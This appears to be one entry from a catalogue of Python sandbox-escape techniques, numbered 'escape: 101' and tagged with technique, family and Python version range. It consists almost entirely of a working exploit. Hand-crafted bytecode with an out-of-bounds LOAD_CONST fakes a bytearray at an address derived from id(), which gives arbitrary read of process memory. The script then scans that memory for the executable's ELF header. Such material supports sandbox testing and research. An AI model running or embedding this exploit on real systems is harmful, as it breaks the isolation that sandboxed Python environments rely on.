# escape: 101
# policy-wall: optional; it rewrites its own process, which the wall takes as broken
# technique: LOAD_CONST out of bounds fetches a fake bytearray (address from id()): arbitrary read of the process
# family: memory
# goal: memory
# first-seen: jailctf; HackTricks LOAD_NAME/LOAD_CONST OOB; Dragon CTF 2020
# min-python: 3.11
# max-python: 3.12
import struct
P = lambda *a: struct.pack('<%dQ' % len(a), *a)
Z = (1 << 63) - 1
fake = P(1 << 28, id(bytearray), Z, Z, 0, 0, 0)
ptr = P(id(fake) + 32); k = (None,)
i = (id(ptr) + 32 - id(k) - 24) // 8 & 0xffffffff
f = lambda: None
bc = b'\x97\0' + bytes([144, i >> 24, 144, i >> 16 & 255, 144, i >> 8 & 255, 100, i & 255]) + b'S\0'
m = type(f)(f.__code__.replace(co_code=bc, co_consts=k), {})()
a = int.from_bytes(m[id(len) + 16:id(len) + 24], 'little') & ~0xfff   # m_ml -> data of the executable
for _ in range(20000):
    if m[a:a + 4] == b'\x7fELF': print('ESCAPED:ELF header read at %#x' % a); break
    a -= 4096
